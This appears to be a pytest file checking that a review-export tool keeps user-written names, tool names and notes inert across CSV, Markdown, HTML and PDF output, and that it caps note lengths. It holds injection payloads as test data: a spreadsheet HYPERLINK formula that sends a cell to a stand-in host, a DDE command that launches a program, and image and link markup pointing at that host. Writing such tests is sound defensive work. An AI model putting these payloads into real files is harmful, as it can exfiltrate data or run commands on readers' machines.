"""Text people write (names, notes, tool names) reaches every review export as text: no spreadsheet
formula in the CSV, no Markdown image or link, no HTML, and a note as long as the form allows prints."""

import csv
import io
import re
from datetime import date

import pytest

from markdown_it import MarkdownIt
from sqlalchemy import select, update

from payoff.store import db, self_service
from payoff.store.models import AIUsageDaily, Person, SignalNote
from tests.review.test_review_content import export, pdf_text

FORMULA = '=HYPERLINK("https://evil.test/?"&A1,"click")'
MARKUP = '![pixel](https://evil.test/p.png) <img src="https://evil.test/i.png"> [site](https://evil.test) **loud**'
TOOL = "+cmd|' /C calc'!A0"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def inject(url: str, note: str) -> None:
    """Dee's name, her AI tool's name and her note on the waste signal become attacks."""
    with db.session(url) as s:
        s.execute(update(Person).where(Person.email == "dee@acme.test").values(name=f"{FORMULA} {MARKUP}"))
        s.execute(update(AIUsageDaily).where(AIUsageDaily.identity_id == "claude_code:dee").values(tool=TOOL))
        dee = s.execute(select(Person.id).where(Person.email == "dee@acme.test")).scalar_one()
        self_service.add_signal_note(s, person_id=dee, month="2026-10", signal="spend_without_outcomes", note=note)


def test_injection_strings_stay_text_in_every_review_export(org, tmp_path):
    inject(org, f"@SUM(1+1) {MARKUP}")
    args = ("--person", "dee@acme.test", "--as", "mia@acme.test")
    rows = list(csv.reader(io.StringIO(export(tmp_path, *args, fmt="csv").decode())))
    cells = [cell for row in rows for cell in row]
    assert any(FORMULA in cell for cell in cells)  # the name is there, as text
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]

    markdown = export(tmp_path, *args, fmt="md").decode()
    rendered = MarkdownIt("commonmark").enable("table").render(markdown)  # as a reader's viewer shows it
    assert "@SUM(1+1)" in rendered and FORMULA.replace('"', "&quot;").replace("&A1", "&amp;A1") in rendered
    for live in ("<img", "<a ", "<strong>loud"):
        assert live not in rendered, live

    html = export(tmp_path, *args, fmt="html").decode()
    tags = re.findall(r"<(?:img|a|script|link)\b[^>]*>", html)
    assert tags and all(re.fullmatch(r'<img src="data:image/png;base64,[^"]+" [^>]*>', tag) for tag in tags), tags
    assert "&lt;img src=&quot;https://evil.test/i.png&quot;&gt;" in html  # shown, as text

    text = pdf_text(export(tmp_path, *args, fmt="pdf"))
    assert "HYPERLINK" in text and "SUM" in text


def test_long_notes_print_in_the_pdf(org, tmp_path):
    """As long as the form allows, in one unbreakable word; and a note stored before there was a cap,
    longer than a page (the PDF shortens it rather than fail)."""
    inject(org, "x" * self_service.NOTE_MAX_CHARS)
    text = pdf_text(export(tmp_path, "--person", "dee@acme.test", "--as", "dee@acme.test", fmt="pdf"))
    assert "x" * self_service.NOTE_MAX_CHARS in text.replace(" ", "")  # broken over lines, all there
    with db.session(org) as s:
        s.execute(update(SignalNote).values(note="context " * 2000))
    text = pdf_text(export(tmp_path, "--person", "dee@acme.test", "--as", "dee@acme.test", fmt="pdf"))
    assert "context context" in text and "…" in text, text


def test_notes_and_comments_are_capped_in_the_store(org):
    with db.session(org) as s:
        dee = s.execute(select(Person.id).where(Person.email == "dee@acme.test")).scalar_one()
        for write in (
            lambda: self_service.add_signal_note(
                s, person_id=dee, month="2026-10", signal="x", note="n" * (self_service.NOTE_MAX_CHARS + 1)
            ),
            lambda: self_service.save_survey(
                s,
                person_id=dee,
                week=date(2026, 10, 5),
                hours_saved=1,
                comment="c" * (self_service.COMMENT_MAX_CHARS + 1),
            ),
        ):
            with pytest.raises(ValueError, match="at most"):
                write()
